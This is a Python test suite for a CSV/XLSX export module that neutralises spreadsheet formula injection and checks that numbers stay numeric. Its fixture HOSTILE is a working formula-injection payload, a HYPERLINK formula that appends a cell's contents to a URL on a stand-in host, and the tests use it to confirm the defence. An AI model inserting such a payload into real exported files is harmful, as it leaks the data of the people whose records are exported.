"""The one writer of CSV and XLSX cells: text that a spreadsheet would run as a formula is neutralised in both
formats, XLSX text cells are strings (never formulas or error values), and real numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from talentpool.engines.tabular.columns import KINDS
from talentpool.engines.tabular.writing import (
    Sheet,
    csv_bytes,
    csv_value,
    errors_xlsx_bytes,
    neutralise,
    write_errors_csv,
    write_template,
    xlsx_bytes,
)

HOSTILE = '=HYPERLINK("http://x/?d="&C2,"核对")'


@pytest.mark.parametrize(
    ("raw", "written"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("=2+3", "'=2+3"),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),  # full-width equals sign
        ("中国银行 =1", "中国银行 =1"),  # only the first character matters
        ("a-b", "a-b"),
        ("", ""),
    ],
)
def test_text_that_starts_like_a_formula_gets_a_quote(raw, written):
    assert neutralise(raw) == written
    assert csv_value(raw) == written


def test_csv_values_keep_numbers_as_numbers_and_text_as_text():
    assert [csv_value(v) for v in (Decimal("-12.50"), Decimal("1E+2"), -3, None, dt.date(2025, 3, 1), "-3")] == [
        "-12.50", "100", "-3", "", "2025-03-01", "'-3"]


def test_a_csv_file_reads_back_with_every_hostile_cell_quoted():
    data = csv_bytes(["户名", "开户行", "金额"], [["李明", HOSTILE, Decimal("15000.00")], ["王芳", "=2+3", Decimal("-5")]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["户名", "开户行", "金额"], ["李明", "'" + HOSTILE, "15000.00"], ["王芳", "'=2+3", "-5"]]


def _cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def test_xlsx_text_cells_are_strings_never_formulas_or_errors():
    rows = [[HOSTILE, "=2+3", "#N/A", "a\x01b", Decimal("15000.00"), 7, dt.date(2025, 3, 1), None, "普通"]]
    data = xlsx_bytes([Sheet("代发", ["h"] * 9, rows, number_formats={4: "0.00"})])
    cells = _cells(data)
    assert not [c.coordinate for c in cells if c.data_type in ("f", "e")]
    by_ref = {c.coordinate: c for c in cells}
    assert by_ref["A2"].value == "'" + HOSTILE and by_ref["A2"].data_type == "s"
    assert by_ref["B2"].value == "'=2+3"
    assert (by_ref["C2"].value, by_ref["C2"].data_type) == ("#N/A", "s")
    assert by_ref["D2"].value == "ab"  # a control character XLSX cannot hold is dropped, not a broken file
    assert (by_ref["E2"].value, by_ref["E2"].data_type, by_ref["E2"].number_format) == (15000, "n", "0.00")
    assert (by_ref["F2"].value, by_ref["F2"].data_type) == (7, "n")
    assert by_ref["G2"].value == dt.datetime(2025, 3, 1) and by_ref["H2"].value is None
    assert by_ref["I2"].value == "普通"


def test_error_files_echo_a_formula_as_inert_text():
    rows = [(3, "手机号", "=2+3", "not a phone number")]
    cells = _cells(errors_xlsx_bytes(iter(rows), ["Row", "Column", "Value", "Reason"]))
    assert not [c for c in cells if c.data_type == "f"]
    assert [c.value for c in cells[4:]] == [3, "手机号", "'=2+3", "not a phone number"]
    out = io.StringIO(newline="")
    write_errors_csv(iter(rows), out, ["Row", "Column", "Value", "Reason"])
    assert list(csv.reader(io.StringIO(out.getvalue())))[1] == ["3", "手机号", "'=2+3", "not a phone number"]


def test_templates_hold_no_formula():
    out = io.BytesIO()
    write_template(KINDS["talents"], out)
    cells = _cells(out.getvalue())
    assert cells and not [c for c in cells if c.data_type == "f"]
    assert load_workbook(io.BytesIO(out.getvalue())).worksheets[0]["A1"].comment is not None


def test_a_workbook_is_kept_under_what_its_cells_hold():
    """The same cells give the kept file; any change of a cell (even 1.0 to 1.00, or 1 to True) is another file."""
    from talentpool.engines.tabular.writing import kept_files_clear

    kept_files_clear()

    def book(rows):
        return xlsx_bytes([Sheet("s", ["a", "b"], iter(rows), number_formats={1: "0.00"})], keep=True)

    first = book([["x", Decimal("1.0")]])
    assert book([["x", Decimal("1.0")]]) is first
    for other in ([["x", Decimal("1.00")]], [["y", Decimal("1.0")]], [["x", 1]], [["x", True]], [["x", Decimal("1.0")], []]):
        made = book(other)
        assert made is not first
        sheet = load_workbook(io.BytesIO(made)).active
        assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)][0][0] == other[0][0]


def test_a_kept_file_follows_the_language_of_its_lazy_headers():
    """Headers given as lazy translations are keyed by their text in the active language, not by the object."""
    from django.utils import translation
    from django.utils.translation import gettext_lazy

    header = gettext_lazy("Reason")

    def book():
        return xlsx_bytes([Sheet("s", ["row", header], [[2, "bad"]])], keep=True)

    with translation.override("en"):
        english = book()
    with translation.override("zh-hans"):
        chinese = book()
    values = [load_workbook(io.BytesIO(data)).active["B1"].value for data in (english, chinese)]
    assert values[0] == "Reason" and values[1] != "Reason"


def test_files_naming_people_are_never_kept():
    """Only a caller's ``keep=True`` (aggregate reports) keeps a file: a bank file and an import's error file are
    written each time and gone from the process after the response."""
    from talentpool.engines.tabular import writing

    writing.kept_files_clear()
    bank = [Sheet("代发", ["户名", "账号"], [["李明", "6222020200112233445"]])]
    assert load_workbook(io.BytesIO(xlsx_bytes(bank))).active["B2"].value == "6222020200112233445"
    errors_xlsx_bytes([(2, "B", "330106199001011234", "bad")], ["row", "column", "value", "reason"])
    assert not writing._kept_files
    xlsx_bytes([Sheet("s", ["total"], [[1]])], keep=True)
    assert len(writing._kept_files) == 1
